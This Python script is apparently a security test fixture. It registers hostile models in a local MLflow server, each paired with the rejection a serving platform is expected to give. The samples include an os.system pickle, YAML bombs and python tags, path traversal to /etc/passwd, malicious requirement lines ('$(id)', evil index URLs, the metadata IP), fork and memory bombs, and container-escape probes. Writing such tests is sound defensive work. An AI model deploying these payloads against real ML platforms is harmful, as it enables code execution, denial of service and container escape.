"""Hostile models for a running platform, as data: what is registered, and what the run that should serve it must say.

The standard library alone: the file runs inside the instance and registers them; prints the names of those that MLflow took.
"""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import sys
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import dataclass, field
from typing import Any

MLFLOW = "http://127.0.0.1:5000"
API = "/api/2.0/mlflow"
# A pickle that would leave a file behind; nobody is to load it.
PICKLE = b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
GOOD = """flavors:
  python_function: {loader_module: mlflow.sklearn, model_path: model.skops, predict_fn: predict}
  sklearn: {pickled_model: model.skops, serialization_format: skops}
"""
# As MLflow's own models, with code of their own.
CODE = "flavors:\n  python_function: {loader_module: hostile, code: code}\n"
PICKLES = "holds what may be a pickle or other code"
BAD_FILE = "The file MLmodel of version 1"


@dataclass(frozen=True)
class Model:
    """A model: its files, what the run says of it, and what the inventory allows it."""

    name: str
    says: str
    mlmodel: str | bytes | None = GOOD
    requirements: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    # Served with allow_pickle: it is built and started, and must end by itself.
    runs: str = ""
    # What the database says of the place of its files, set behind MLflow's back.
    place: str = ""


def bomb(levels: int) -> str:
    """Ten to the power of so many items in a few hundred bytes."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    return "\n".join([*lines, *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, levels))])


def pyfunc(**more: str) -> str:
    """An MLmodel whose flavor python_function says something else."""
    said = {"loader_module": "mlflow.sklearn", "model_path": "model.skops"} | more
    return GOOD.replace(GOOD.splitlines()[1], "  python_function: " + json.dumps(said))


MODELS = [
    # Files that a parser falls over.
    Model("anchors", f"{BAD_FILE} of hostile-anchors (alias champion) cannot be used", bomb(9)),
    Model("merge", BAD_FILE, "<<: {flavors: {}}\n" + GOOD),
    Model("deep", BAD_FILE, "a: " + "[" * 100_000),
    Model("wide", BAD_FILE, "a: [" + "1, " * 200_000 + "1]"),
    Model("large", "its file MLmodel has more than 1048576 bytes", "# " + "x" * 1024 * 1024),
    Model("tag", BAD_FILE, GOOD + "x: !!python/object/apply:os.system [id]\n"),
    Model("documents", BAD_FILE, GOOD + "---\n" + GOOD),
    Model("binary", "is no UTF-8 text", b"\xff\xfe" + GOOD.encode("utf-16-le")),
    Model("signature", BAD_FILE, GOOD + "signature: {inputs: '" + "[" * 5000 + "'}\n"),
    Model("gone", "it has no file MLmodel", None, files={"note.txt": b"x"}),
    # Code by another name.
    Model("loader", PICKLES, CODE, files={"code/hostile.py": b"raise SystemExit"}),
    Model("beside", PICKLES, pyfunc(code="code")),
    Model("outside", PICKLES, GOOD.replace("pickled_model: model.skops", "pickled_model: ../../other/model.skops")),
    Model("absolute", PICKLES, pyfunc(model_path="/etc/passwd")),
    Model("pickle", PICKLES, files={"python_model.pkl": PICKLE}),
    Model("renamed", PICKLES, files={"weights.json": PICKLE}),
    Model("gzip", PICKLES, files={"weights.txt": gzip.compress(PICKLE)}),
    Model("bzip2", PICKLES, files={"weights.csv": bz2.compress(PICKLE)}),
    Model("xz", PICKLES, files={"weights.yaml": lzma.compress(PICKLE)}),
    Model("archive", PICKLES, files={"weights.md": b"7z\xbc\xaf\x27\x1c" + PICKLE}),
    Model("skops", PICKLES, files={"model.skops": PICKLE}),
    Model("trusted", PICKLES, GOOD.replace("serialization_format", "skops_trusted_types: [os.system], serialization_format")),
    Model("flavor", PICKLES, GOOD + "  dspy: {model_path: x}\n"),
    # Requirements that are more than a version of a package.
    *(Model(name, f"'{line[:60]}", requirements=f"numpy==2.3.5\n{line}\n") for name, line in {
        "url": "evil @ http://169.254.169.254/evil-1.0.tar.gz",
        "path": "./evil-1.0-py3-none-any.whl",
        "vcs": "git+https://example.com/evil.git",
        "option": "--extra-index-url https://evil.example/simple",
        "include": "-r /etc/passwd",
        "range": "numpy>=1",
        "shell": "numpy==2.3.5; $(id)",
    }.items()),
    Model("many", "packages, where 1000 are allowed", requirements="".join(f"a{n}==1\n" for n in range(1001))),
    # Files elsewhere.
    Model("file", "not behind the tracking server's artifact proxy", place="file:///etc"),
    Model("bucket", "not behind the tracking server's artifact proxy", place="s3://other/x"),
    Model("up", "not behind the tracking server's artifact proxy", place="mlflow-artifacts:/1/../../etc"),
    # What is allowed to run, and then does this.
    Model("exits", "is not served", CODE, runs="import os\nos._exit(0)\n"),
    Model("forks", "is not served", CODE, runs="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        os._exit(1)\n"),
    Model("hogs", "is not served", CODE, runs="held = []\nwhile True:\n    held.append(bytearray(64 * 2**20))\n"),
    Model("escapes", "nothing worked", CODE, runs="""
import ctypes, os, socket
done = []
for path in ("/escaped", "/model/escaped", "/etc/escaped", "/opt/escaped"):
    try:
        open(path, "w").close()
        done.append(path)
    except OSError:
        pass
done += [path for path in ("/var/run/docker.sock", "/run/secrets") if os.path.exists(path) and os.listdir(os.path.dirname(path))]
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)),
             lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW), lambda: os.kill(1, 0) if os.getpid() != 1 and os.getuid() == 0 else 1 / 0):
    try:
        call()
        done.append(repr(call))
    except (OSError, ZeroDivisionError):
        pass
if ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    done.append("mount")
raise RuntimeError(f"it did {done}" if done else "nothing worked")
"""),
]  # fmt: skip


def call(method: str, path: str, body: Any = None) -> Any:
    """One call of MLflow's interface; a body that is no JSON is sent as it is."""
    data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    request = urllib.request.Request(MLFLOW + path, data, {"Content-Type": "application/json"}, method=method)
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=60) as answer:
        return json.loads(answer.read() or b"{}")


def register(model: Model, experiment: str) -> dict[str, str]:
    """Upload the files and register them; what must be said to the database is handed back."""
    run = call("POST", f"{API}/runs/create", {"experiment_id": experiment})["run"]["info"]
    files = {"requirements.txt": model.requirements.encode()} | model.files
    if model.mlmodel is not None:
        files["MLmodel"] = model.mlmodel if isinstance(model.mlmodel, bytes) else model.mlmodel.encode()
    if model.runs:
        files["code/hostile.py"] = model.runs.encode()
    path = run["artifact_uri"].partition(":/")[2] + "/model"
    for name, content in files.items():
        call("PUT", f"/api/2.0/mlflow-artifacts/artifacts{urllib.parse.quote('/' + path.lstrip('/'))}/{name}", content)
    name = f"hostile-{model.name}"
    call("POST", f"{API}/registered-models/create", {"name": name})
    source = f"{run['artifact_uri']}/model"
    call("POST", f"{API}/model-versions/create", {"name": name, "source": source, "run_id": run["run_id"]})
    call("POST", f"{API}/registered-models/alias", {"name": name, "alias": "champion", "version": "1"})
    return {"name": name, "place": model.place}


def main() -> None:
    """Register all of them."""
    experiment = call("POST", f"{API}/experiments/create", {"name": "hostile"})["experiment_id"]
    print(json.dumps([register(model, experiment) for model in MODELS]))  # noqa: T201


if __name__ == "__main__":
    try:
        main()
    except urllib.error.HTTPError as refused:
        sys.exit(f"{refused.url}: {refused.code} {refused.read(500)!r}")
